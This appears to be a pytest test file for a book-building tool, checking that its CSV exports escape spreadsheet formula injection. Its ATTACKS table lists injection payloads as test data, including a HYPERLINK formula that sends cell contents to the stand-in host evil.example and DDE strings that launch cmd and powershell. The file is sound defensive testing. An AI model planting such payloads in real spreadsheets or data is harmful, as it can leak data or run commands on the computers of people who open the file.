"""The editors' spreadsheets (`_build/overview.csv`, `_build/contributors.csv`) carry no formula:
reports, accepted and refused, whose every text starts with what a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bookbuilder import spreadsheet
from bookbuilder.layout import SOURCE_DIR
from bookbuilder.names import PersonName
from bookbuilder.pipeline import prepare, render_sources
from conftest import FIXTURES, copy_book, run_book

# Each start a spreadsheet may evaluate (OWASP's list, full-width forms, hidden behind
# whitespace or a zero-width space), with a payload of the kind an attacker sends.
ATTACKS = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": '＝HYPERLINK("https://evil.example")',
    "fullwidth-at": "＠SUM(1)",
    "spaces": "   =1+1",
    "zero-width": "\u200b=1+1",
    "dde": "=cmd|' /C powershell -c calc'!A0",
    "semicolon": 'Heat; =HYPERLINK("https://evil.example")',
}
TRIGGERS = "=+-@＝＋－＠"


def evaluated(cell: str) -> bool:
    """What a spreadsheet might read as a formula: the cell, or a piece of it after a
    semicolon, tab or line break (where a spreadsheet splitting at those would start a cell),
    starting with a trigger once whitespace and invisible characters are skipped, or the cell
    starting with a tab or line break."""
    if cell and cell[0] in "\t\r\n\x00":
        return True
    for piece in re.split(r"[;\t\r\n]", cell):
        visible = [c for c in piece if not (c.isspace() or unicodedata.category(c)[0] in "CZ")]
        if visible and visible[0] in TRIGGERS:
            return True
    return False


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_neutralised_text_is_never_evaluated(name: str) -> None:
    text = ATTACKS[name]
    assert evaluated(text)  # the attack is one
    safe = spreadsheet.neutralise(text)
    assert not evaluated(safe), repr(safe)
    assert safe.replace("'", "") == text.replace("'", "")  # only apostrophes added


# Text made of the characters that matter (triggers, separators, invisible ones) and letters.
TRICKY = st.text(
    st.sampled_from(
        [*TRIGGERS, ";", ",", "\t", "\r", "\n", " ", "\u200b", "\u00a0", "\x00", "'", "a", "1", "é"]
    ),
    max_size=12,
)


@given(TRICKY)
def test_no_text_is_ever_evaluated(text: str) -> None:
    safe = spreadsheet.neutralise(text)
    assert not evaluated(safe), repr(safe)
    assert safe.replace("'", "") == text.replace("'", "")  # only apostrophes added
    if not evaluated(text):  # and only where needed
        assert safe == text


@pytest.mark.parametrize("text", ["Heat in Köln", "Smith-Jones", "5 °C", "a, =b", "", "'quoted'"])
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert spreadsheet.neutralise(text) == text


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    spreadsheet.write_csv(target, ["text", "count", "delta"], [["-1", 12, -3], [None, 0, 2.5]])
    raw = target.read_text("utf-8").splitlines()
    assert raw == ['"text","count","delta"', '"\'-1",12,-3', '"",0,2.5']


def attack_report(slug: str, title: str, name: str, affiliation: str, country: str) -> str:
    q = json.dumps  # a YAML double-quoted string

    return (
        f"---\ntitle: {q(title)}\nauthors:\n  - name: {q(name)}\n    role: radiographer\n"
        f"    affiliation: {q(affiliation)}\ncountry: {q(country)}\nsubmitted: 2021-08-01\n"
        "consent: true\n---\n\nA short report about a hot week in the scanner room.\n"
    )


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small book plus, for each attack, a valid report (its title, name and affiliation
    start with the attack) and a refused one (its country too: `make check` refuses it, the
    overview lists it)."""
    root = copy_book(FIXTURES / "book-small", tmp_path_factory.mktemp("attacked"))
    for index, (name, payload) in enumerate(sorted(ATTACKS.items())):
        slug = f"attack-{name}"
        (root / "experiences" / f"{slug}.md").write_text(
            attack_report(slug, f"{payload} {index}", f"{payload} Person {index}", payload, "FR"),
            "utf-8",
        )
        (root / "experiences" / f"refused-{name}.md").write_text(
            attack_report(slug, f"{payload} r{index}", payload, payload, payload), "utf-8"
        )
    return root


def read_cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, value in row.items():
            assert not evaluated(value), (column, value)


def test_overview_csv_carries_no_formula(attacked: Path) -> None:
    result = run_book(attacked, "overview")
    assert result.returncode == 0, result.stdout + result.stderr
    rows = read_cells(attacked / "_build" / "overview.csv")
    assert_no_formula(rows)
    by_slug = {row["slug"]: row for row in rows}
    for name, payload in ATTACKS.items():
        # Refused reports are listed, with what could be read of them, apostrophe first (the
        # first author as filed: the family name first, names.PersonName)
        refused = by_slug[f"refused-{name}"]
        shown = refused["first_author"].replace("'", "")
        filed = PersonName.of(payload).file_as
        assert shown.split() == filed.replace("'", "").split()  # whitespace normalised
        assert refused["errors"] != "0"
        accepted = by_slug[f"attack-{name}"]
        assert accepted["title"].startswith("'") or name == "semicolon"
    # The project's own numbers are written as numbers: unquoted, a spreadsheet sums them.
    raw = (attacked / "_build" / "overview.csv").read_text("utf-8")
    assert re.search(r'"attack-equals","accepted",.*,\d+,\d+,\d+,\d+,\d+,"experiences/', raw)


def test_contributors_csv_carries_no_formula(attacked: Path, tmp_path: Path) -> None:
    book = copy_book(attacked, tmp_path / "book")
    for refused in (book / "experiences").glob("refused-*.md"):  # a build needs a valid book
        refused.unlink()
    prepared = prepare(book)
    assert prepared.ok, prepared.problems
    render_sources(prepared.book, book / SOURCE_DIR)
    rows = read_cells(book / "_build" / "contributors.csv")
    assert_no_formula(rows)
    names = {row["name"].replace("'", "") for row in rows}
    for index, (_name, payload) in enumerate(sorted(ATTACKS.items())):
        # Names are published as written (whitespace normalised): find each one's row.
        assert any(f"Person {index}" in name for name in names), (payload, names)
